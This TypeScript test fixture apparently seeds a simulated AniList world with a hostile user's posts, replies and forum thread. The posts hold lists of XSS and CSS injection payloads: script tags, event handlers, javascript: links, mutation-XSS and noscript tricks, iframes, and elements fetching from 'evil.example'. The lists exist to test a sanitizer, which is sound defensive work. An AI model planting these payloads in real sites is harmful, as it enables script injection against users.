// Mallory's hostile writing (issue 13): text posts, replies and forum comments that carry the
// XSS and CSS vectors a member can type into AniList: script tags, event handlers, javascript:
// links, SVG and MathML tricks, style attributes and <style> blocks, CSS and elements that fetch
// from another host, and markdown that turns into such HTML. Written last, with its own random
// stream, so that the rest of the world stays as it was.
//
// Every payload that would run sets `window.__pwned` (and some also call alert), and every
// payload that would fetch points at HOSTILE_HOST, so a test can tell at once whether anything
// ran or left for another host. None of them is something AniList itself would load: the pages'
// allow-list (sim/sanitize.ts) shows them as inert text, while the API's raw HTML answers carry
// them as written, so the script must clean them.
//
// The posts and the thread are older than anything else of the world's social data (more than
// 60 days, the thread over 300), so the home, profile and forum pages that are screenshotted keep
// their look; tests find them through HOSTILE_SEED.

import type { Random } from './random.ts';
import type { ActivityReply, ForumThread, TextActivity, ThreadComment, WorldFixture } from './types.ts';

/** The host every fetching payload points at; no request may ever reach it. */
export const HOSTILE_HOST = 'evil.example';

/** Script, event handlers, javascript: links, SVG, MathML and mutation tricks (raw HTML). */
export const HOSTILE_HTML_VECTORS = [
  '<script>window.__pwned = "script"; alert("script")</script>',
  '<img src=x onerror="window.__pwned = \'onerror\'">',
  '<a href="javascript:window.__pwned=\'jslink\'">a javascript: link</a>',
  '<a href="jav&#x09;ascript:window.__pwned=\'tab\'">an encoded javascript: link</a>',
  '<svg onload="window.__pwned = \'svg\'"><script>window.__pwned = "svgscript"</script><image href="https://evil.example/svg.png"></image></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=\'svglink\'"><text x="0" y="15">svg link</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>"></noscript>',
  '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe><iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>',
  '<details open ontoggle="window.__pwned=\'toggle\'"><summary>details</summary></details>',
  '<body onload="window.__pwned=\'body\'"><input autofocus onfocus="window.__pwned=\'focus\'">',
  '<form action="https://evil.example/form"><button formaction="javascript:window.__pwned=\'form\'">Go</button></form>',
  '<object data="https://evil.example/object.swf"></object><embed src="https://evil.example/embed.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
] as const;

/** CSS that escapes its box or fetches from another host (raw HTML). */
export const HOSTILE_CSS_VECTORS = [
  '<style>@import url("https://evil.example/import.css"); body { display: none !important; }</style>',
  '<link rel="stylesheet" href="https://evil.example/link.css">',
  '<div style="background: url(https://evil.example/background.png)">a styled div</div>',
  '<span style="position:fixed;inset:0;z-index:2147483647;background:red">a page-covering overlay</span>',
  '<p style="font-family: x; src: url(https://evil.example/font.woff)">@font-face lookalike</p>',
  '<img src="x" srcset="https://evil.example/srcset.png 2x" alt="">',
  '<video poster="https://evil.example/poster.png" controls></video>',
  '<table background="https://evil.example/table.png"><tr><td>old background attribute</td></tr></table>',
] as const;

/** Markdown that AniList's renderer could turn into such HTML. */
export const HOSTILE_MARKDOWN_VECTORS = [
  '[a markdown link](javascript:window.__pwned=\'mdlink\')',
  'img(javascript:window.__pwned=\'mdimg\')',
  '~!<img src=x onerror="window.__pwned=\'spoiler\'">!~',
  '__<a href="javascript:window.__pwned=\'bold\'">bold link</a>__',
  '~~~<svg onload="window.__pwned=\'centre\'"></svg>~~~',
  '[![x](https://evil.example/nested.png)](javascript:window.__pwned=\'nested\')',
] as const;

/** What the tests look for. */
export const HOSTILE_SEED = {
  /** first words of each seeded post, reply and comment (tests find them by these) */
  marker: 'Mallory says:',
  /** the seeded thread's title, itself hostile */
  threadTitle: 'Mallory\'s <img src=x onerror="window.__pwned=\'title\'"> thread',
  /** likes on the liked post and the liked comment: above the five that make the script load likers */
  manyLikes: 8,
  /** likes on the other post: five or fewer, so the script must not ask */
  fewLikes: 3,
} as const;

const DAY = 86_400;

/** Offset of this file's random stream from the world's seed. */
export const HOSTILE_SEED_OFFSET = 0x6a11;

export function seedHostile(fixture: WorldFixture, rng: Random): void {
  const mallory = fixture.users.find((u) => u.name === 'Mallory');
  if (!mallory) return;
  const others = fixture.users.filter((u) => u.id !== mallory.id && !u.private).map((u) => u.id);
  // Below every other id and older than every other post: AniList's ids grow with time, so they
  // must not sort before today's posts where the API orders by id (the activity-rate sample).
  let activityId = Math.min(...fixture.activities.map((a) => a.id)) - 1;
  const oldestActivity = Math.min(...fixture.activities.map((a) => a.createdAt));
  let replyId = Math.max(0, ...fixture.activities.flatMap((a) => a.replies.map((r) => r.id))) + 1;
  const likers = (count: number) => rng.sample(others, count).sort((a, b) => a - b);
  const say = (vectors: readonly string[]) => `${HOSTILE_SEED.marker} ${vectors.join('\n\n')}`;

  // Three posts, one per family of vectors, a day apart, with Mallory's hostile replies under each.
  const families = [HOSTILE_HTML_VECTORS, HOSTILE_CSS_VECTORS, HOSTILE_MARKDOWN_VECTORS];
  families.forEach((vectors, i) => {
    // Older than every other activity, as their ids are lower (AniList's ids grow with time).
    const createdAt = oldestActivity - (1 + i) * DAY;
    const id = activityId--;
    const replies: ActivityReply[] = [];
    for (const [r, family] of families.entries()) {
      replies.push({
        id: replyId++,
        activityId: id,
        userId: mallory.id,
        text: say(family),
        likes: likers(r === 0 ? HOSTILE_SEED.manyLikes : r),
        createdAt: createdAt + 600 * (r + 1),
      });
    }
    replies.push({ id: replyId++, activityId: id, userId: rng.pick(others), text: 'Please stop posting this.', likes: [], createdAt: createdAt + 3_000 });
    const post: TextActivity = {
      id,
      type: 'TEXT',
      userId: mallory.id,
      text: say(vectors),
      likes: likers(i === 0 ? HOSTILE_SEED.manyLikes : HOSTILE_SEED.fewLikes),
      replies,
      isLocked: false,
      isPinned: false,
      subscribers: [],
      createdAt,
    };
    fixture.activities.push(post);
  });

  // A forum thread of hers, with her comments (nested) carrying every family.
  const threadId = Math.max(0, ...fixture.threads.map((t) => t.id)) + 1;
  let commentId = Math.max(0, ...fixture.threadComments.map((c) => c.id)) + 1;
  const createdAt = fixture.now - 400 * DAY;
  const comments: ThreadComment[] = [];
  families.forEach((vectors, i) => {
    const top: ThreadComment = {
      id: commentId++,
      threadId,
      userId: mallory.id,
      parentId: null,
      comment: say(vectors),
      likes: likers(i === 0 ? HOSTILE_SEED.manyLikes : HOSTILE_SEED.fewLikes),
      createdAt: createdAt + (i + 1) * 3_600,
      updatedAt: createdAt + (i + 1) * 3_600,
    };
    const answer: ThreadComment = {
      id: commentId++,
      threadId,
      userId: rng.pick(others),
      parentId: top.id,
      comment: 'Reported.',
      likes: [],
      createdAt: top.createdAt + 600,
      updatedAt: top.createdAt + 600,
    };
    const again: ThreadComment = { ...top, id: commentId++, parentId: answer.id, comment: say(families[(i + 1) % families.length]), likes: [], createdAt: answer.createdAt + 600, updatedAt: answer.createdAt + 600 };
    comments.push(top, answer, again);
  });
  const last = comments[comments.length - 1];
  const thread: ForumThread = {
    id: threadId,
    title: HOSTILE_SEED.threadTitle,
    body: say([...HOSTILE_HTML_VECTORS, ...HOSTILE_CSS_VECTORS]),
    userId: mallory.id,
    categories: [{ id: 7, name: 'General' }],
    mediaCategories: [],
    likes: likers(HOSTILE_SEED.manyLikes),
    subscribers: [],
    viewCount: rng.int(10, 500),
    isSticky: false,
    isLocked: false,
    createdAt,
    updatedAt: createdAt,
    repliedAt: last.createdAt,
    replyUserId: last.userId,
    replyCommentId: last.id,
  };
  fixture.threads.push(thread);
  fixture.threadComments.push(...comments);
}
